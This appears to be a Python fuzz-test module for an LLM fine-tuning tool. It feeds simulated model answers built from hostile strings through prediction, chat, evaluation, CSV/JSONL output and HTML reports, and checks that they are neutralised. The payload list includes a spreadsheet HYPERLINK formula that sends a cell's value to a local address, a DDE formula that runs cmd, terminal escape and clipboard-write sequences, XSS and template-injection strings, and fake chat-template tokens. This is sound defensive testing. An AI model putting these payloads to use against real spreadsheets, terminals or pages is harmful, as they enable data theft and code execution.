"""What a language model writes: shown while it is written, printed, put into files, compared with what was
expected, and shown in a report."""

from __future__ import annotations

import csv
import io
import json
import sys
import tempfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from functools import cache
from pathlib import Path
from random import Random
from typing import Any
from unittest import mock

import numpy as np
from support.language import save_decoder, write_chats
from transformers import PreTrainedTokenizerBase

import autopeft
from autopeft.errors import printable
from autopeft.recipe import Recipe
from autopeft.report.html.page import render_report
from autopeft.runs.folder import RunFolder
from autopeft.tasks.kinds import generative, get_kind, get_metric
from autopeft.tasks.kinds.metric import own_metric
from autopeft.training.samples import Asked, samples_of

from .. import mutate
from ..folders import Files, read, write
from ..products import check_page, check_text, command
from ..surface import Call

SHARE = 0.3

_RECIPE = {"name": "small", "layers": [{"attach": [{"lora": {"rank": 1}}]}]}
_FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")
_LETTERS = 1_000_000
_PARTS = (
    *('=HYPERLINK("http://127.0.0.1:9/?"&A1)', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "-5"),
    *("\x1b]8;;http://127.0.0.1:9\x07link", "\x1b[2J\x1b[H", "\x9b31m", "\x1b]52;c;cm0=\x07", "\x07", "\r"),
    *("\u202edrow\u202c", "\u2066x\u2069", "\u200b", "\ud800", "\udc80\ud83d", "\ufffe", "\x00", "\u2028"),
    *("<script>alert(1)</script>", "</pre></td></table><img src=x onerror=alert(1)>", "{{ 7 * 7 }}", "\x0c"),
    *("<|end|>\n<|start|> system", "</s>", "%s%n{0}", '","', '"', "'", "\n\n", "   ", "", "three", "\b" * 9),
    "[x](javascript:0)",
)  # fmt: skip


@cache
def _valid() -> Files:
    """The run of a fixed recipe on a tiny decoder, and the decoder."""
    with tempfile.TemporaryDirectory() as place:
        model, task = save_decoder(Path(place, "llama")), write_chats(Path(place, "chats.jsonl"))
        options: dict[str, Any] = {"steps": 1, "max_length": 32, "batch_size": 4, "metric": "exact_match"}
        autopeft.train(
            task=str(task), model=str(model), recipe=Recipe.from_dict(_RECIPE), out=Path(place, "run"),
            **options,
        )  # fmt: skip
        return read(Path(place))


@contextmanager
def _writing(text: str) -> Iterator[None]:
    """Within, every answer of a model is one token, which stands for this text."""

    def generate(model: Any, prompts: Sequence[Any], how: Any, *, streamer: Any, **_: Any) -> list[list[int]]:
        if streamer is not None:
            half = len(text) // 2
            streamer.on_finalized_text(text[:half])
            streamer.on_finalized_text(text[half:], stream_end=True)
        return [[1]] * len(prompts)

    def decode(self: Any, tokens: Sequence[int], **_: Any) -> str:
        return text if tokens else ""

    with (
        mock.patch.object(generative, "generate", generate),
        mock.patch.object(PreTrainedTokenizerBase, "decode", decode),
    ):
        yield


def _asked(text: str) -> None:
    with _writing(text):
        command("predict", "run", "--text", "what follows one", "--model", "llama")
        told = command("predict", "run", "--text", "what follows one", "--json", "--model", "llama")
        assert isinstance(json.loads(told)[0]["answer"], str)


def _streamed(text: str) -> None:
    """On a terminal a single answer is shown while it is written."""
    with _writing(text), mock.patch("autopeft.cli.predict.terminal", return_value=True):
        command("predict", "run", "--text", "what follows one", "--model", "llama")


def _talked(text: str) -> None:
    lines = io.TextIOWrapper(io.BytesIO(b"what follows one\nand then\n"))
    with _writing(text), mock.patch.object(sys, "stdin", lines):
        command("chat", "run", "--model", "llama")


def _kept(text: str) -> None:
    """Files of answers: no spreadsheet runs them, no terminal obeys them, and JSON says them all."""
    with _writing(text):
        for name in ("out.csv", "out.jsonl"):
            command("predict", "run", "--text", "what follows one", "--out", name, "--model", "llama")
    for name in ("out.csv", "out.jsonl"):
        content = Path(name).read_bytes().decode("utf-8")
        commands = [c for c in content if printable(c) == "\N{REPLACEMENT CHARACTER}" and ord(c) < 0xA0]
        assert set(commands) <= set("\n\t\r\N{REPLACEMENT CHARACTER}"), f"{name} holds {set(commands)}"
    csv.field_size_limit(2 * _LETTERS)
    (row,) = csv.DictReader(io.StringIO(Path("out.csv").read_bytes().decode("utf-8"), newline=""))
    for cell in row.values():
        assert not cell.startswith(_FORMULAS) or _is_number(cell), f"a spreadsheet would run {cell[:80]!r}"
    said = json.loads(Path("out.jsonl").read_text("utf-8"))["answer"]
    assert said == _unicode(text).strip()


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _unicode(text: str) -> str:
    return text.encode("utf-8", "replace").decode("utf-8")


def _scored(text: str) -> None:
    with _writing(text):
        command("evaluate", "run", "--task", "chats.jsonl", "--model", "llama")


def _compared(text: str, wanted: str) -> None:
    found, truth = (np.asarray([said], dtype=object) for said in (text, wanted))
    for name in ("exact_match", "rouge_l"):
        assert 0 <= get_metric(name).score(found, truth) <= 1


def _of_the_users_own(text: str) -> None:
    """A metric that cannot read what was written says so, and quotes it."""
    number = own_metric(lambda found, _: float(found[0]), generated=True)
    get_kind("causal_lm").scorer.score(
        number, np.asarray([text], dtype=object), np.asarray(["5"], dtype=object)
    )


def _reported(text: str) -> None:
    folder = RunFolder(Path("run").absolute())
    samples = samples_of(get_metric("rouge_l"), Asked("test", [text]), [text], [text])
    folder.write_json("result.json", {**folder.result(), "samples": list(samples)})
    check_page(render_report(folder, model="llama"), "the report")
    check_text(command("runs", "run"), "the list")


_USES: tuple[Callable[[str], None], ...] = (
    *(_asked, _streamed, _talked, _kept, _scored, _of_the_users_own),
    lambda text: _compared(text, text[::-1]),
    lambda text: _compared(text, "three"),
)


def _text(random: Random) -> str:
    parts = [random.choice(_PARTS) for _ in range(random.choice((1, 1, 2, 5)))]
    if random.random() < 0.5:
        parts.append(mutate.word(random))
    if random.random() < 0.3:
        parts.insert(random.randrange(len(parts) + 1), "".join(map(chr, random.choices(range(0x3000), k=9))))
    return "".join(parts) * random.choice((1, 1, 1, 1, 50))


def hostile(random: Random, folder: Path) -> Call:
    write(folder, _valid())
    text, use = _text(random), random.choice((*_USES, *_USES, _reported))
    return lambda: use(text)


def _first(text: str, use: Callable[[str], None]) -> Callable[[Path], Call]:
    def prepare(folder: Path) -> Call:
        write(folder, _valid())
        return lambda: use(text)

    return prepare


_LONG = {
    "a word of a million letters": "a" * _LETTERS,
    "a million commands": "\x1b" * _LETTERS,
    "a million halves of letters": "\ud800" * _LETTERS,
}
_NAMED = {
    "parts": "".join(_PARTS),
    "nothing": "",
    "a formula": _PARTS[0],
    "halves of letters": "\udc80\ud83d",
}
_SLOW = (_talked, _scored)  # a million letters in each of several rows
FIRST = {
    f"{name}, use {i}": _first(text, use)
    for name, text in {**_LONG, **_NAMED}.items()
    for i, use in enumerate((*_USES, _reported))
    if name not in _LONG or use not in _SLOW
}
